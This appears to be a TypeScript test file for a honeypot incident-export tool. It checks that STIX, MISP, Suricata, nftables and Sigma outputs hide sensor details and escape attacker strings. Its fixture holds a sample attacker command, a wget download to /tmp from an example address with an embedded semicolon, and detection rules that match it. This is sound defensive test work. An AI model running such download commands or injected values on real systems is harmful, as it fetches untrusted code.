import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import type { Incident } from '@apiary/model/api/incidents.ts';
import { incident_formats } from '@apiary/model/incident-words.ts';
import { StateDatabase } from '../state/database.ts';
import { pseudonym } from './incident-facts.ts';
import { writeIncident } from './incident-file.ts';

const hash = 'ab'.repeat(32);
const attack: Incident['attacks'][number] = {
  attack_id: '1',
  first_ts: '2026-03-01T00:00:00.000001Z',
  last_ts: '2026-03-01T00:10:00.000000Z',
  source: '203.0.113.7',
  attacker_ip: '203.0.113.7',
  attacker_country: 'SK',
  attacker_asn: 64_496,
  service: 'ssh',
  cve: '',
  sensors: [1],
  sessions: 1,
  events: 3,
  actions: { input: 3 },
  log_ins: 1,
  tool: 'script or program',
  tool_confidence: 0.8,
  weakness: 'configuration',
  stage: 'brought a tool',
  results: ['increased access'],
  families: ['xmrig'],
  techniques: ['T1105'],
  commands: ['wget "http://198.51.100.9/a;b" -O /tmp/x; echo secret-pot'],
  urls: ["http://198.51.100.9/a;b?c='d'", 'http://pot.example/from/192.0.2.66'],
  files: [hash, 'not a hash'],
  links: [],
};
const data: Incident = {
  incident: {
    number: 12,
    incident_id: '1',
    first_ts: attack.first_ts,
    last_ts: attack.last_ts,
    attacks: 2,
    events: 4,
    sources: 2,
    sensors: [1],
    countries: ['SK'],
    services: ['ssh'],
    stage: 'brought a tool',
    tools: ['script or program'],
    families: ['xmrig'],
    attacker: 'professional criminal',
    attacker_confidence: 0.8,
    objectives: ['financial gain'],
    name: 'Visit to secret-pot',
    status: 'open',
    assignee: 'eva',
    pinned: false,
    judged: [],
    is_partial: false,
  },
  asked: 12,
  rules: { attacker: 'unknown', attacker_confidence: 0, objectives: [] },
  evidence: [],
  judgements: [],
  groupings: [],
  attacks: [
    attack,
    {
      ...attack,
      attack_id: '2',
      source: '2001:db8:1:2::/64',
      attacker_ip: '2001:db8:1:2::9',
      urls: [],
      files: [],
      commands: [],
    },
  ],
  is_cut: false,
  narrative: ['It came to secret-pot.'],
};

describe('an incident for others', () => {
  let state: StateDatabase;
  before(() => {
    state = new StateDatabase(':memory:');
    state.run("INSERT INTO sensor (sensor_id, name, type, created_ms) VALUES (1, 'secret-pot', 'cowrie', 0)");
    state.run(
      "INSERT INTO honeypot (honeypot_id, name, interaction, role, location) VALUES (1, 'pot', 'low', 'server', 'Example cellar')",
    );
    state.run(
      "INSERT INTO honeypot_address (honeypot_id, address, side, valid_from_ms) VALUES (1, '192.0.2.66', 'public', 0)",
    );
  });
  const write = (format: (typeof incident_formats)[number]): string =>
    writeIncident(state, data, format, 'amber', Date.UTC(2026, 2, 2)).text;

  test('names no sensor and none of its addresses in any format, also not inside payloads', () => {
    for (const format of incident_formats) {
      const text = write(format);
      assert(text.length > 0, format);
      for (const word of ['secret-pot', '192.0.2.66', 'Example cellar', 'eva'])
        assert(!text.includes(word), `${format} holds ${word}`);
    }
    const key = state.get<{ value: string }>("SELECT value FROM setting WHERE name = 'pseudonym_key'")!.value;
    assert(write('stix').includes(pseudonym(Buffer.from(key, 'hex'), 'secret-pot')));
  });

  test('is the same bundle each time, with indicators for what can be acted on', () => {
    assert.equal(write('stix'), write('stix'));
    const bundle = JSON.parse(write('stix')) as { objects: { type: string; id: string; pattern?: string }[] };
    const patterns = bundle.objects.flatMap(({ pattern }) => pattern ?? []);
    assert(patterns.includes("[ipv4-addr:value = '203.0.113.7']"));
    assert(patterns.includes("[ipv6-addr:value = '2001:db8:1:2::9']"));
    assert(patterns.includes(`[file:hashes.'SHA-256' = '${hash}']`));
    assert(patterns.includes("[url:value = 'http://198.51.100.9/a;b?c=\\'d\\'']"));
    assert.equal(new Set(bundle.objects.map(({ id }) => id)).size, bundle.objects.length);
    for (const { id } of bundle.objects)
      assert.match(id, /^[a-z-]+--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  });

  test('is a MISP event with its marking and attributes', () => {
    const { Event } = JSON.parse(write('misp')) as {
      Event: { Tag: { name: string }[]; Attribute: { type: string; value: string }[]; date: string };
    };
    assert.equal(Event.date, '2026-03-01');
    assert(Event.Tag.some(({ name }) => name === 'tlp:amber'));
    assert.deepEqual(
      Event.Attribute.map(({ type }) => type),
      ['ip-src', 'ip-src', 'sha256', 'url', 'url'],
    );
  });

  test('gives rules in which nothing of an attacker ends a string', () => {
    const rules = write('suricata').trim().split('\n');
    assert.equal(rules.length, 3);
    assert.match(
      rules[0]!,
      /http\.host; content:"198\.51\.100\.9"; startswith; http\.uri; content:"\/a\|3B\|b\|3F\|c=\|27\|d\|27\|"/,
    );
    assert(rules.every((rule) => /^alert (?:http|ip) .*; sid:\d+; rev:1;\)$/.test(rule)));
    const sids = rules.map((rule) => /sid:(\d+)/.exec(rule)![1]);
    assert.equal(new Set(sids).size, sids.length);
    assert.match(write('nftables'), /elements = \{ 203\.0\.113\.7 \}[\s\S]*elements = \{ 2001:db8:1:2::9 \}/);
    assert.match(write('sigma'), /- "wget \\"http:\/\/198\.51\.100\.9\/a;b\\"/);
  });
});
